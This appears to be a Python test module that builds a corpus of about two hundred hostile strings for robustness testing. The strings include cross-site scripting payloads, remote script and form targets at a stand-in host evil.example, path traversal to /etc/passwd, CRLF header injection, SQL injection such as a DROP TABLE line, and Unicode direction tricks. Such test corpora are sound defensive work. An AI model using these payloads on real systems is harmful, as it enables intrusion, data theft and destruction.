"""Two hundred texts, names and paths that have broken other programs."""

from collections.abc import Iterator

_MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title><script>1</script>",
    "<!--<script>",
    "]]><script>",
    "<iframe srcdoc='<script>1</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>@import'//evil.example'</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0>",
    "<form action=//evil.example><button>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "{{7*7}}",
    "{% raw %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 %>",
    "'\"><b>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "&lt;script&gt;",
    "&#x3C;script&#x3E;",
    "<\x00script>",
    "<scr\u200bipt>",
    "＜script＞alert(1)＜/script＞",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "javascript:alert(1)",
    "data:text/html,<script>1</script>",
    "vbscript:x",
    "//evil.example",
    "\\\\evil.example\\share",
]
_DIRECTION = [
    "\u202egnp.exe",
    "\u2066hidden\u2069",
    "\u200f\u200f\u200f",
    "a\u202d\u202e\u202cb",
    "\u061cx",
    "\u2067\u2067\u2067",
]
_CHARACTERS = [
    "\x00",
    "a\x00b",
    "\x1b[31mred",
    "\x7f",
    "\r\nSet-Cookie: x=1",
    "a\r\n\r\nHTTP/1.1 200 OK",
    "\u2028\u2029",
    "\ufeff",
    "\ufffe",
    "\U000e0041",
    "\U0010ffff",
    "e\u0301" * 50,
    "\u0337" * 500,
    "ﷺ" * 40,
    "𝕊𝕔𝕣𝕚𝕡𝕥",
    "🏴" * 100,
    "ß" * 300,
    "İ",
    "ı",
    "\x85",
]
_PATHS = [
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "%2e%2e/%2e%2e/",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "..\\..\\x",
    "file:///etc/passwd",
    "con",
    ".",
    "..",
    "./.",
    "~",
    "%00",
    "%",
    "%zz",
    "%25%32%66",
    "a/b/c",
    "a//b",
    "?x=1#y",
]
_QUERIES = [
    "' OR 1=1 --",
    "'; DROP TABLE article; --",
    '" OR ""="',
    "1) UNION SELECT record FROM article --",
    "*",
    "**",
    "NEAR(a b)",
    "title:x",
    "{title} : x",
    "a AND NOT b",
    "^x",
    "-x",
    "OR",
    "OR OR OR",
    '"',
    '"""',
    "“",
    "publisher:*",
    'publisher:"',
    "after:0000",
    "after:9999-99-99",
    "actor:%",
    "actor:_",
    "story:'",
    "x*" * 40,
    "(" * 200,
    ")" * 200,
    "\\" * 100,
    "+ - * /",
    "$where",
    "{'$gt': ''}",
]
_LONG = [
    "x" * 2000,
    "x " * 900,
    "<" * 1500,
    '"' * 1500,
    "'" * 1500,
    "&amp;" * 300,
    "-" * 1000,
    "word:" * 300,
    "é" * 900,
    "%" * 1500,
]


def list_hostile() -> Iterator[str]:
    """Different texts, two hundred at least, in the same order always."""
    plain = [*_MARKUP, *_DIRECTION, *_CHARACTERS, *_PATHS, *_QUERIES, *_LONG]
    yield from plain
    # What is decoded twice somewhere, and what hides behind words that are found.
    for text in (*_MARKUP, *_PATHS):
        yield f"crane {text} crane"
    for text in _DIRECTION:
        for other in _MARKUP[:5]:
            yield f"{text}{other}"


HOSTILE = tuple(dict.fromkeys(list_hostile()))
